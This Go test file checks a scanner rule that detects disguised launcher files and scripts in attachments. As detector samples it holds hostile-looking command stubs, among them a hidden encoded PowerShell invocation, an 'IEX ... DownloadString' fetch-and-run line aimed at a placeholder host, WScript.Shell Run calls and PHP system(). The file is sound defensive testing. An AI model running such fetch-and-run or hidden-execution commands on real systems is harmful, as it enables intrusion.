package xfile_test

import (
	"io"
	"slices"
	"strings"
	"testing"

	"qguard/rules"
	"qguard/scan"
)

// TestStarters are small files that start something, under a harmless name and
// in three encodings, each beside a clean sibling.
func TestStarters(t *testing.T) {
	const x = "<?xml version=\"1.0\"?>\r\n<!-- <a> -->\r\n"
	for _, c := range []struct{ name, bad, clean string }{
		{"Internet shortcut", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://x\r\n", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n"},
		{"Internet shortcut behind a comment", "; x\r\n[InternetShortcut]\r\n", "; [InternetShortcut]\r\n"},
		{"desktop entry", "[Desktop Entry]\nType=Application\nExec=sh -c x\n", "[Desktop Entry]\nType=Directory\nName=x\n"},
		{"shell command file", "[Shell]\r\nCommand=2\r\nIconFile=\\\\x\\y.ico\r\n", "[Shell]\r\nname=bash\r\n"},
		{"theme", "; x\r\n[Theme]\r\nDisplayName=x\r\n", "[Theme]\r\ncolor=red\r\n"},
		{"autorun", "[AutoRun]\r\nopen=a.exe\r\n", "[AutoRun]\r\nlabel=Photos\r\n"},
		{"setup information", "[Version]\r\nSignature=\"$CHICAGO$\"\r\n", "[Version]\r\nnumber=2\r\n"},
		{"data link", "[oledb]\r\n; x\r\nProvider=SQLOLEDB\r\n", "[oledb2]\r\nx=y\r\n"},
		{"remote desktop", "screen mode id:i:2\r\nfull address:s:example.org\r\n", "screen mode:2\r\nfull address:example.org\r\n"},
		{"remote desktop, other order", "audiomode:i:0\r\nfull address:s:example.org\r\n", "audiomode:i:0\r\n"},
		{"library", x + `<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">`, x + `<libraryDescription xmlns="http://example.org/">`},
		{"search", x + `<persistedQuery version="1.0">`, x + `<query version="1.0">`},
		{"search connector", x + `<searchConnectorDescription>`, x + `<searchConnector>`},
		{"settings", x + `<PCSettings><SearchableContent>`, x + `<Settings><SearchableContent>`},
		{"App Installer", x + `<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018">`, x + `<AppInstaller>`},
		{"ClickOnce", x + `<asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment install="true">`, x + `<asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><trustInfo>`},
		{"console", x + `<MMC_ConsoleFile ConsoleVersion="3.0">`, x + `<ConsoleFile>`},
		{"script file", "<job id=\"x\"><script language=\"VBScript\">", "<job id=\"x\"><title>Cook</title>"},
		{"script package", "<?xml?><package><job><script>", "<?xml?><package xmlns=\"http://www.idpf.org/2007/opf\"><metadata>"},
		{"scriptlet", x + "<scriptlet><registration>", x + "<script><registration>"},
		{"script component", "<?component error=\"true\"?><component><registration progid=\"x\">", x + "<component type=\"desktop\"><id>org.example</id>"},
		{"task", x + `<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">`, x + `<Task name="x">`},
		{"contact", x + `<c:contact xmlns:c="http://schemas.microsoft.com/Contact">`, x + `<contact><name>x</name></contact>`},
		{"sandbox", `<Configuration><LogonCommand><Command>x</Command>`, `<Configuration><Command>x</Command>`},
		{"Java Web Start", x + `<jnlp spec="1.0+" codebase="http://x/">`, x + `<jnl>`},
		{"profile", x + "<!DOCTYPE plist PUBLIC \"x\" \"y\"><plist><dict><key>PayloadContent</key><array/><key>PayloadType</key>", x + "<plist><dict><key>Payload</key>"},
		{"web location", x + "<!DOCTYPE plist PUBLIC \"x\" \"y\">\n<plist version=\"1.0\">\n<dict>\n\t<key>URL</key>", x + "<plist>\n<dict>\n\t<key>Name</key>"},
		{"batch file", "@ECHO OFF\r\ndel x\r\n", "echo off is a command\r\n"},
		{"PHP", "<?php\nsystem($x);", "<?phpx"},
		{"Windows script", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "Set s = the shell\r\n"},
		{"Windows script, JScript", "var s = new ActiveXObject('WScript.Shell'); s.Run('calc')", "var s = new Date()"},
		{"PowerShell", "powershell -nop -w hidden -enc SQBFAFgA\r\n", "PowerShell is a shell\r\n"},
		{"PowerShell, fetching", "IEX (New-Object Net.WebClient).DownloadString('http://x/')\r\n", "IEX is a company\r\n"},
		{"AppleScript", "FasdUAS 1.101.10" + strings.Repeat("\x00", 40), "Fasd" + strings.Repeat("\x00", 40)},
		{"web location, binary", "bplist00\xd1\x01\x02SURL_\x10\x13http://example.org/", "bplist00\xd1\x01\x02TName_\x10\x13http://example.org/"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for how, encode := range map[string]func(string) string{
				"plain":  func(s string) string { return s },
				"mark":   func(s string) string { return "\xef\xbb\xbf" + s },
				"UTF-16": utf16le,
				"wide":   func(s string) string { return utf16le(s)[2:] },
			} {
				if strings.IndexByte(c.bad, 0) >= 0 || strings.HasPrefix(c.bad, "bplist") {
					if how != "plain" {
						continue
					}
				}
				for _, name := range []string{"a.txt", "b.pdf", "c.jpg"} {
					if got := rulesOf(look(t, rules.Xfile{}, filled(name, encode(c.bad)))); !slices.Equal(got, []string{"xfile.content"}) {
						t.Errorf("%s, %s: findings %q", how, name, got)
					}
					if got := look(t, rules.Xfile{}, filled(name, encode(c.clean))); len(got) > 0 {
						t.Errorf("%s, %s: clean findings %+v", how, name, got)
					}
				}
				running := filled("", encode(c.bad))
				running.Types = []string{"text/plain"}
				if got := look(t, rules.Xfile{}, running); len(got) > 0 && strings.IndexByte(c.bad, 0) < 0 {
					t.Errorf("%s: running text: findings %+v", how, got)
				}
			}
		})
	}
}

// TestMeantScripts are scripts and writing about scripts that hide nothing.
func TestMeantScripts(t *testing.T) {
	shell := "Set s = CreateObject(\"WScript.Shell\")\r\n"
	for name, data := range map[string]string{
		"install":        "@echo off\r\n",
		"index.inc":      "<?php\n",
		"about.txt":      strings.Repeat("The lines that follow explain how scripts are found. ", 40) + shell,
		"profile.sample": shell,
		"data.json":      "[{\"a\": 1}]",
		"notes.md":       "# Notes\n\n[shell]\n",
		"settings.ini":   "[shell]\nname=x\n",
	} {
		if got := look(t, rules.Xfile{}, filled(name, data)); len(got) > 0 {
			t.Errorf("%s: findings %+v", name, got)
		}
	}
}

// TestTitle lets an attached message have its subject as its name, and nothing else.
func TestTitle(t *testing.T) {
	const mail = "Received: from a\r\n by b\r\nFrom: a@example.org\r\nSubject: order at example.com\r\n\r\nhello\r\n"
	for _, c := range []struct {
		name, file, data, encoding string
		types                      []string
		clean                      bool
	}{
		{"subject", "Fwd: order at example.com", mail, "", []string{"message/rfc822"}, true},
		{"address", "Re: mail from a@example.com", mail, "8bit", []string{"message/global"}, true},
		{"one word", "example.com", mail, "", []string{"message/rfc822"}, false},
		{"another extension", "Fwd: order at example.exe", mail, "", []string{"message/rfc822"}, false},
		{"another type", "Fwd: order at example.com", mail, "", []string{"message/rfc822", "application/octet-stream"}, false},
		{"encoded", "Fwd: order at example.com", mail, "base64", []string{"message/rfc822"}, false},
		{"a program", "Fwd: order at example.com", program, "", []string{"message/rfc822"}, false},
		{"text", "Fwd: order at example.com", "hello: you\r\n", "", []string{"message/rfc822"}, false},
		{"header with rubbish", "Fwd: order at example.com", "From: a\r\nhello\r\n\r\n", "", []string{"message/rfc822"}, false},
		{"trick", "order at example.\u200bcom", mail, "", []string{"message/rfc822"}, false},
		{"tail", "order at example.com .", mail, "", []string{"message/rfc822"}, false},
	} {
		p := &scan.Part{Path: "2", Names: []string{c.file}, Types: c.types, Open: func() (io.Reader, error) { return strings.NewReader(c.data), nil }}
		if c.encoding != "" {
			p.Header = scan.Header{{Name: "Content-Transfer-Encoding", Value: c.encoding}}
		}
		if got := look(t, rules.Xfile{}, p); (len(got) == 0) != c.clean {
			t.Errorf("%s: findings %+v", c.name, got)
		}
		p.DisputedNames = p.Names
		if got := look(t, rules.Xfile{}, p); len(got) == 0 {
			t.Errorf("%s, disputed: nothing found", c.name)
		}
	}
}

// FuzzStarter reads anything as a small file: no panic, the same in UTF-16.
func FuzzStarter(f *testing.F) {
	for _, s := range []string{"[InternetShortcut]\n", "<job><script>", "screen mode id:i:1\n", "@echo off", "<?x?><!-- --><!DOCTYPE a [<b>]><plist>", "bplist00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		look(t, rules.Xfile{}, filled("a.txt", s))
		look(t, rules.Xfile{}, filled("a.png", utf16le(s)))
	})
}
